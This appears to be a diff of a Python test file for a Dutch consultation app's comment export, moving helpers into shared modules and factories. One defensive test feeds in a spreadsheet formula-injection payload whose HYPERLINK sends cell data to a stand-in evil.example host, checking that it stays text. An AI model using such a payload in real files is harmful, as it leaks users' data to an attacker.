@@ -34,18 +34,32 @@ from app.models import (
     InternalNote,
     Municipality,
     Position,
-    Proposal,
-    ProposalVersion,
-    Provider,
     Section,
     SessionStatus,
     User,
     Visibility,
 )
-from app.proposals import manage
-from tests.helpers import csrf_from, login
+from tests import factories
+from tests.helpers import (
+    assert_problem,
+    csrf_from,
+    error_fields,
+    find_proposal,
+    find_provider,
+    find_section,
+    find_user,
+    login,
+    publish_next_version,
+)
 
-pytestmark = pytest.mark.demo  # not yet re-based on tests/factories.py
+
+@pytest.fixture(autouse=True)
+def world(db) -> dict:
+    """The demo's dialogue, providers, accounts, proposals and comments, made by factories."""
+    made = factories.demo_world(db)
+    db.commit()
+    return made
+
 
 API = "/api/v1"
 EXPORT = f"{API}/comments/export"
@@ -58,40 +72,6 @@ THREAD = "Draad (antwoorden van deelnemers)"
 
 
 # --- helpers -------------------------------------------------------------------------------------
-
-
-def user(db: Session, email: str) -> User:
-    return db.exec(select(User).where(User.email == email)).one()
-
-
-def proposal(db: Session, slug: str) -> Proposal:
-    return db.exec(select(Proposal).where(Proposal.slug == slug)).one()
-
-
-def provider(db: Session, slug: str) -> Provider:
-    return db.exec(select(Provider).where(Provider.slug == slug)).one()
-
-
-def section(db: Session, slug: str, key: str, number: int = 1) -> Section:
-    return db.exec(
-        select(Section)
-        .join(ProposalVersion, col(ProposalVersion.id) == Section.version_id)
-        .join(Proposal, col(Proposal.id) == ProposalVersion.proposal_id)
-        .where(Proposal.slug == slug, ProposalVersion.number == number, Section.key == key)
-    ).one()
-
-
-def assert_problem(response, status: int) -> dict[str, Any]:
-    assert response.status_code == status, response.text
-    assert response.headers["content-type"].startswith(PROBLEM)
-    body = response.json()
-    assert body["status"] == status
-    assert body["title"] and body["detail"]
-    return body
-
-
-def error_fields(response) -> list[str]:
-    return [e["field"] for e in response.json().get("errors", [])]
 
 
 def add_comment(db: Session, target: Section, author: User, body: str, **extra: Any) -> Comment:
@@ -109,17 +89,6 @@ def add_comment(db: Session, target: Section, author: User, body: str, **extra: 
     db.add(comment)
     db.commit()
     return comment
-
-
-def publish_next_version(db: Session, slug: str = PUBLIC_SLUG) -> ProposalVersion:
-    """Start and publish the next version of a proposal, as SDFL does (same section keys)."""
-    admin = user(db, "sdfl@example.org")
-    p = proposal(db, slug)
-    manage.new_version(db, p, actor=admin)
-    db.flush()
-    version = manage.publish(db, p, change_summary="Tweede concept na de eerste reacties.", actor=admin)
-    db.commit()
-    return version
 
 
 def read_csv(response) -> list[list[str]]:
@@ -179,13 +148,15 @@ def feedback_set(db: Session) -> dict[str, Any]:
     """
     start = (clock.now() + timedelta(minutes=5)).replace(microsecond=0)
     moments = iter(start + timedelta(minutes=i) for i in range(20))
-    re_care, triade = user(db, "re-care@example.org"), user(db, "triade-vitree@example.org")
-    almere, admin = user(db, "almere@example.org"), user(db, "sdfl@example.org")
+    re_care, triade = find_user(db, "re-care@example.org"), find_user(db, "triade-vitree@example.org")
+    almere, admin = find_user(db, "almere@example.org"), find_user(db, "sdfl@example.org")
     made: dict[str, Any] = {"start": start}
 
     def make(name: str, author: User, slug: str, key: str, number: int = 1, **extra: Any) -> Comment:
         at_ = next(moments)
-        comment = add_comment(db, section(db, slug, key, number), author, f"Reactie {name}.", created_at=at_, **extra)
+        comment = add_comment(
+            db, find_section(db, slug, key, number), author, f"Reactie {name}.", created_at=at_, **extra
+        )
         made[name], made[f"{name}_at"] = comment.id, at_
         return comment
 
@@ -291,7 +262,7 @@ def test_xlsx_holds_the_same_rows_as_the_csv(client, db, auth, feedback_set, rol
     n = feedback_set["ids"]
     headers = auth(role)
     # Notes, positions and a thread fill the columns that hold more than one line.
-    almere = user(db, "almere@example.org")
+    almere = find_user(db, "almere@example.org")
     municipality = db.exec(select(Municipality).where(Municipality.name == "Almere")).one()
     db.add(InternalNote(comment_id=n["a"], author_id=almere.id, body="Eerste regel.\n\nTweede **regel**."))
     db.add(Position(comment_id=n["a"], municipality_id=municipality.id, author_id=almere.id, stance="eens"))
@@ -318,14 +289,14 @@ def test_xlsx_holds_the_same_rows_as_the_csv(client, db, auth, feedback_set, rol
     assert zorg and {r["Soort"] for r in zorg} == {"Zorg"}
     assert {n["a"], n["f"]} <= {int(r["Nummer"]) for r in zorg}
 
-    pid = proposal(db, PUBLIC_SLUG).id
+    pid = find_proposal(db, PUBLIC_SLUG).id
     v1 = same_rows(client, headers, {"proposal_id": pid, "version": 1, "since": feedback_set["start"].isoformat()})
     assert [int(r["Nummer"]) for r in v1] == [n["a"], n["b"], n["c"]]
     first = v1[0]
     assert first["Versie"] == "1"
     assert first["Onderdeel (sleutel)"] == "productoverzicht"
     assert first["Reactie"] == "Reactie a."
-    assert first["Aanbieder"] == provider(db, "re-care").name
+    assert first["Aanbieder"] == find_provider(db, "re-care").name
     assert "Reactie k." in first[THREAD]
     assert "Reactie h." in first["Officieel antwoord SDFL"]
     assert "Tweede regel." in first["Interne notities"]
@@ -341,8 +312,8 @@ def test_xlsx_holds_the_same_rows_as_the_csv(client, db, auth, feedback_set, rol
 def test_each_filter_narrows_the_export(client, db, auth, feedback_set):
     n = feedback_set["ids"]
     since = feedback_set["start"].isoformat()
-    ps, ct = proposal(db, PUBLIC_SLUG).id, proposal(db, PRIVATE_SLUG).id
-    re_care, triade = provider(db, "re-care").id, provider(db, "triade-vitree").id
+    ps, ct = find_proposal(db, PUBLIC_SLUG).id, find_proposal(db, PRIVATE_SLUG).id
+    re_care, triade = find_provider(db, "re-care").id, find_provider(db, "triade-vitree").id
 
     def exported(**params: Any) -> list[int]:
         params = {"since": since, **params}
@@ -402,11 +373,11 @@ def test_export_rows_are_the_top_level_feedback_of_the_comment_list(client, db, 
     list ``GET /api/v1/comments`` gives for it, minus replies, official replies and withdrawn comments."""
     params: dict[str, Any] = dict(filters)
     if params.get("proposal_id") == "ps":
-        params["proposal_id"] = proposal(db, PUBLIC_SLUG).id
+        params["proposal_id"] = find_proposal(db, PUBLIC_SLUG).id
     elif params.get("proposal_id") == "ct":
-        params["proposal_id"] = proposal(db, PRIVATE_SLUG).id
+        params["proposal_id"] = find_proposal(db, PRIVATE_SLUG).id
     if "provider_id" in params:
-        params["provider_id"] = provider(db, params["provider_id"]).id
+        params["provider_id"] = find_provider(db, params["provider_id"]).id
     if "since" in params:
         params["since"] = feedback_set["e_at"].isoformat()
     for role in ("municipality", "admin"):
@@ -427,9 +398,9 @@ def test_replies_are_in_the_thread_column_not_rows(client, db, auth, feedback_se
     by_id = {int(r["Nummer"]): r for r in rows}
     assert set(by_id) == {n[x] for x in "abcdef"}
     # g (a provider's reply to f) and k (a reply to a) are in the thread of their parent, with who wrote them.
-    triade, re_care = user(db, "triade-vitree@example.org"), user(db, "re-care@example.org")
-    assert by_id[n["f"]][THREAD] == f"{triade.name} ({provider(db, 'triade-vitree').name}): Reactie g."
-    assert by_id[n["a"]][THREAD] == f"{re_care.name} ({provider(db, 're-care').name}): Reactie k."
+    triade, re_care = find_user(db, "triade-vitree@example.org"), find_user(db, "re-care@example.org")
+    assert by_id[n["f"]][THREAD] == f"{triade.name} ({find_provider(db, 'triade-vitree').name}): Reactie g."
+    assert by_id[n["a"]][THREAD] == f"{re_care.name} ({find_provider(db, 're-care').name}): Reactie k."
     # h, SDFL's official reply, is in its own column and never in the thread.
     assert by_id[n["a"]]["Officieel antwoord SDFL"] == "Reactie h."
     assert by_id[n["a"]]["Antwoord vrijgegeven"] != ""
@@ -470,9 +441,9 @@ POSITION_NOTE = "Almere ziet hier juist meer wachttijd (zp4)."
 def annotated(db: Session, feedback_set: dict[str, Any]) -> int:
     """Comment a with an internal note of SDFL and Almere's position "oneens" with a note."""
     cid = feedback_set["ids"]["a"]
-    almere = user(db, "almere@example.org")
+    almere = find_user(db, "almere@example.org")
     municipality = db.exec(select(Municipality).where(Municipality.name == "Almere")).one()
-    db.add(InternalNote(comment_id=cid, author_id=user(db, "sdfl@example.org").id, body=NOTE))
+    db.add(InternalNote(comment_id=cid, author_id=find_user(db, "sdfl@example.org").id, body=NOTE))
     db.add(
         Position(
             comment_id=cid, municipality_id=municipality.id, author_id=almere.id, stance="oneens", note=POSITION_NOTE
@@ -486,7 +457,7 @@ def annotated(db: Session, feedback_set: dict[str, Any]) -> int:
 def test_reviewers_export_internal_notes_and_positions(client, db, auth, annotated, role):
     rows = {int(r["Nummer"]): r for r in same_rows(client, auth(role), {})}
     row = rows[annotated]
-    assert row["Interne notities"] == f"{user(db, 'sdfl@example.org').name} (SDFL): {NOTE}"
+    assert row["Interne notities"] == f"{find_user(db, 'sdfl@example.org').name} (SDFL): {NOTE}"
     assert row["Standpunten gemeenten"] == f"Almere: Oneens - {POSITION_NOTE}"
     # Nothing of it leaks into another row.
     assert all(NOTE not in r["Interne notities"] for i, r in rows.items() if i != annotated)
@@ -495,7 +466,7 @@ def test_reviewers_export_internal_notes_and_positions(client, db, auth, annotat
 
 def test_notes_are_exported_as_the_text_they_show(client, db, auth, feedback_set):
     cid = feedback_set["ids"]["a"]
-    admin = user(db, "sdfl@example.org")
+    admin = find_user(db, "sdfl@example.org")
     db.add(InternalNote(comment_id=cid, author_id=admin.id, body="Schrijf `&lt;` en&nbsp;zo."))
     db.commit()
     rows = {int(r["Nummer"]): r for r in same_rows(client, auth("admin"), {})}
@@ -510,7 +481,7 @@ def test_providers_never_see_notes_or_positions(client, db, auth, annotated, rol
         assert_problem(response, 403)
         assert NOTE not in response.text and POSITION_NOTE not in response.text
 
-    pid = proposal(db, PUBLIC_SLUG).id
+    pid = find_proposal(db, PUBLIC_SLUG).id
     listing = client.get(f"{API}/comments", headers=headers, params={"proposal_id": pid, "page_size": 200})
     assert listing.status_code == 200, listing.text
     assert annotated in [item["id"] for item in listing.json()["items"]]
@@ -528,7 +499,9 @@ def test_providers_never_see_notes_or_positions(client, db, auth, annotated, rol
     "body", ['=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")', "+31 6 1234", "-2+3", "@SUM(A1:A2)"]
 )
 def test_formulas_are_kept_as_text(client, db, auth, body):
-    comment = add_comment(db, section(db, PUBLIC_SLUG, "productoverzicht"), user(db, "re-care@example.org"), body)
+    comment = add_comment(
+        db, find_section(db, PUBLIC_SLUG, "productoverzicht"), find_user(db, "re-care@example.org"), body
+    )
     params = {"since": comment.created_at.isoformat()}
     csv_rows = as_dicts(read_csv(client.get(EXPORT, headers=auth("admin"), params={**params, "format": "csv"})))
     assert [r["Nummer"] for r in csv_rows] == [str(comment.id)]
@@ -585,11 +558,13 @@ def sign_in(client: TestClient, role: str) -> None:
 def target(db: Session) -> dict[str, Any]:
     """A fresh comment of Re-Care with a drafted (unreleased) official reply, so that there is something to
     release; and a planned demo session to put it on the agenda of."""
-    comment = add_comment(db, section(db, PUBLIC_SLUG, "reikwijdte"), user(db, "re-care@example.org"), "Doelwit.")
+    comment = add_comment(
+        db, find_section(db, PUBLIC_SLUG, "reikwijdte"), find_user(db, "re-care@example.org"), "Doelwit."
+    )
     reply = add_comment(
         db,
-        section(db, PUBLIC_SLUG, "reikwijdte"),
-        user(db, "sdfl@example.org"),
+        find_section(db, PUBLIC_SLUG, "reikwijdte"),
+        find_user(db, "sdfl@example.org"),
         "Concept van SDFL.",
         kind=None,
         provider_id=None,
